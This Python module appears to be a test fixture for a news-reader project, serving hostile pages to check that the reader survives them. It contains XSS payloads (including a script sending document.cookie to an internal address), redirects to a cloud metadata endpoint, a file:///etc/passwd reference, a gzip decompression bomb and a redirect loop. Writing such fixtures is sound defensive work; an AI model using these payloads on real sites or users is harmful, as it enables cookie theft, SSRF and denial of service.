"""What the hostile outlet sends: everything a reader must survive. Each address is named in `ROOMS`."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from kawaraban.newsstand.server import Handler

HUGE_BYTES = 200_000_000
_BLOCK = b"<p>" + b"and on it goes " * 4_000 + b"</p>\n"

SCRIPTED = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Minister opens bridge twice | The Lantern Wire</title>
<script>document.location = "http://10.0.0.1/steal?" + document.cookie</script>
<base href="javascript:alert(1)//"><meta http-equiv="refresh" content="0;url=http://169.254.169.254/latest/meta-data/">
</head><body onload="alert('body')"><main><article><h1 onclick="alert('title')">Minister opens bridge twice</h1>
<p>The bridge at Lower Skarne was opened on Friday by the transport minister, who cut the ribbon, walked across, and cut it
again for the photographers on the other bank, officials said.</p>
<p>A spokesman for the ministry said that <a href="javascript:alert('link')">the second ribbon</a> had been paid for by the
photographers. <img src=x onerror="alert('image')"> The bridge carries 4,000 vehicles a day and cost 31 million crowns.</p>
<iframe src="http://192.168.0.1/router"></iframe><object data="file:///etc/passwd"></object>
<p style="background:url(javascript:alert('style'))">Residents said they would have preferred a lift for prams to a second
ribbon. The opposition asked for the accounts of the ceremony to be published by the end of the month.</p>
<svg><script>alert('svg')</script></svg><form action="http://10.0.0.1/"><input name="password"></form>
</article></main></body></html>"""

EMPTY = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>The Lantern Wire</title></head>
<body><nav><a href="/">Home</a></nav><div id="app"></div></body></html>"""


def _scripts(handler: Handler) -> None:
    handler.send_page(SCRIPTED)


def _empty(handler: Handler) -> None:
    handler.send_page(EMPTY)


def _huge(handler: Handler) -> None:
    """A page that goes on to `HUGE_BYTES`, without saying so beforehand."""
    handler.send_response(200)
    handler.send_header("Content-Type", "text/html; charset=utf-8")
    handler.send_header("Connection", "close")
    handler.end_headers()
    for _ in range(HUGE_BYTES // len(_BLOCK)):
        handler.wfile.write(_BLOCK)
    handler.close_connection = True


def _bomb(handler: Handler) -> None:
    """A page of `HUGE_BYTES` that travels in a thousandth of that."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(_BLOCK) for _ in range(HUGE_BYTES // len(_BLOCK))) + packer.flush()
    handler.send_body(200, packed, "text/html; charset=utf-8", {"Content-Encoding": "gzip"})


def _to(address: str) -> Callable[[Handler], None]:
    def answer(handler: Handler) -> None:
        handler.send_body(302, b"", "text/html", {"Location": address})

    return answer


#: Path -> (headline in the feed, what it answers). The loop and the private addresses are redirects.
ROOMS: dict[str, tuple[str, Callable[[Handler], None]]] = {
    "/scripts.html": ("Minister opens bridge twice", _scripts),
    "/huge.html": ("The longest report ever filed", _huge),
    "/bomb.html": ("Small parcel, large contents", _bomb),
    "/loop-1.html": ("Around the harbour and back", _to("/loop-2.html")),
    "/loop-2.html": ("", _to("/loop-1.html")),
    "/inside.html": ("A look inside your own network", _to("http://10.0.0.1/admin")),
    "/metadata.html": ("What your cloud knows", _to("http://169.254.169.254/latest/meta-data/")),
    "/empty.html": ("A page with nothing on it", _empty),
}
